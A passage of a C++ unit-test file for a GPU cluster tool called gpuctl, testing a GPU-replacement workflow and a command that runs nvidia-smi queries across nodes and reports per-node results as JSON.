  ASSERT_NE(csv.find(old_serial), std::string::npos);
  csv.replace(csv.find(old_serial), old_serial.size(), new_serial);
  csv.replace(csv.find(old_uuid), old_uuid.size(), new_uuid);
  node("gpu01").gpu_query = csv;
  node("gpu01").on_command("lspci", {0, "8\n", "", {}});

  NodeWorkflowRequest request;
  request.target = target();
  request.node = "gpu01";
  const auto result = run_replace_gpu(request, [] { return Confirmation::go; }, env());
  ASSERT_TRUE(result.report) << result.error;
  ASSERT_EQ(result.report->changes.size(), 1u) << result.error;
  const auto& change = result.report->changes[0];
  EXPECT_EQ(change.slot, 3);
  EXPECT_EQ(change.kind, facts::GpuChangeKind::replaced);
  EXPECT_EQ(change.old_serial, old_serial);
  EXPECT_EQ(change.new_serial, new_serial);
  EXPECT_EQ(change.old_uuid, old_uuid);
  EXPECT_EQ(change.new_uuid, new_uuid);
  EXPECT_TRUE(ran(node("gpu01"), "nvidia-smi -i 3 -p 0"));
  EXPECT_TRUE(ran(node("gpu01"), "nvidia-smi -i 3 -p 1"));
  EXPECT_FALSE(ran(node("gpu01"), "nvidia-smi -i 2 -p"));
}

// exec runs the words as one shell line on each node, hands every result over as it completes,
// and ends with the worst verdict: a failing command is nodes_failed, an unreachable node wins.
TEST_F(UseCases, ExecRunsTheLineOnEveryNodeAndTheVerdictFollowsTheWorstNode) {
  node("gpu01").on_command("nvidia-smi --query-gpu=driver_version", {0, "550.127.08\n", "", {}});
  node("gpu02").on_command("nvidia-smi --query-gpu=driver_version", {9, "", "NVIDIA-SMI has failed\n", {}});
  ExecRequest request;
  request.inventory = m_inventory;
  request.command = {"nvidia-smi", "--query-gpu=driver_version", "--format=csv,noheader"};
  std::vector<std::string> seen;
  auto result = run_exec(request, env(), [&](const exec::ExecNodeResult& r) { seen.push_back(r.outcome.node); });
  EXPECT_EQ(result.verdict, Verdict::nodes_failed) << result.error;
  ASSERT_EQ(result.results.size(), 2u);
  ASSERT_TRUE(result.results[0].result);
  EXPECT_EQ(result.results[0].result->out, "550.127.08\n");
  ASSERT_TRUE(result.results[1].result);
  EXPECT_EQ(result.results[1].result->exit_code, 9);
  EXPECT_EQ(seen.size(), 2u);
  EXPECT_TRUE(ran(node("gpu01"), "nvidia-smi --query-gpu=driver_version --format=csv,noheader"));
  // --json: per node, never folded: status, exit code, stdout, stderr, duration.
  const auto json = nlohmann::json::parse(exec_to_json("nvidia-smi -L", result));
  EXPECT_EQ(json["format_version"], 1);
  EXPECT_EQ(json["command"], "nvidia-smi -L");
  ASSERT_EQ(json["nodes"].size(), 2u);
  EXPECT_EQ(json["nodes"][0]["node"], "gpu01");
  EXPECT_EQ(json["nodes"][0]["status"], "ok");
  EXPECT_EQ(json["nodes"][0]["exit_code"], 0);
  EXPECT_EQ(json["nodes"][0]["stdout"], "550.127.08\n");
  EXPECT_TRUE(json["nodes"][0]["duration_ms"].is_number_integer());
  EXPECT_EQ(json["nodes"][1]["status"], "failed");
  EXPECT_EQ(json["nodes"][1]["exit_code"], 9);
  EXPECT_EQ(json["nodes"][1]["stderr"], "NVIDIA-SMI has failed\n");

  m_cluster.nodes.erase("gpu02");
  result = run_exec(request, env());
  EXPECT_EQ(result.verdict, Verdict::nodes_unreachable);
  const auto unreachable = nlohmann::json::parse(exec_to_json("x", result))["nodes"][1];
  EXPECT_EQ(unreachable["status"], "unreachable");
  EXPECT_TRUE(unreachable["exit_code"].is_null());
  EXPECT_FALSE(unreachable["reason"].get<std::string>().empty());

  request.limit = "gpu01";
  EXPECT_EQ(run_exec(request, env()).verdict, Verdict::ok);
  request.limit = "nope[";
  EXPECT_EQ(run_exec(request, env()).verdict, Verdict::invalid_input);
}

}  // namespace
}  // namespace gpuctl
